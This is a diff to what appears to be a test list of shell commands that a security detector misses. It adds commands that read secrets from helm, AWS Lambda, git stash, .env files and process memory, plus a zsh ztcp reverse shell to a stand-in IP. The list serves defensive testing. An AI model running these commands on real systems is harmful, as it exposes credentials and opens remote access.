@@ -163,6 +163,13 @@ const MISSED: ReadonlySet<string> = new Set([
   // What services hold is a secret only sometimes.
   'consul kv get -recurse',
   'etcdctl get --prefix /',
+  'helm get values api --all',
+  'aws lambda get-function-configuration --function-name x --query Environment',
+  'git stash show -p --include-untracked',
+  'kubectl create configmap e --from-env-file=.env',
+  "gdb -p 1234 -batch -ex 'dump memory /tmp/x 0 1000'",
+  // Connections that modules of zsh make are not followed.
+  "zsh -c 'zmodload zsh/net/tcp; ztcp 203.0.113.9 4444; zsh <&$REPLY >&$REPLY'",
   // A folder that code prints, in front of a name.
   "echo 'import x' > $(python3 -c 'import site;print(site.getsitepackages()[0])')/x.pth",
   // Names of files of Windows that a fetch wrote, in a shell of another system; a word that scripts of projects have too.
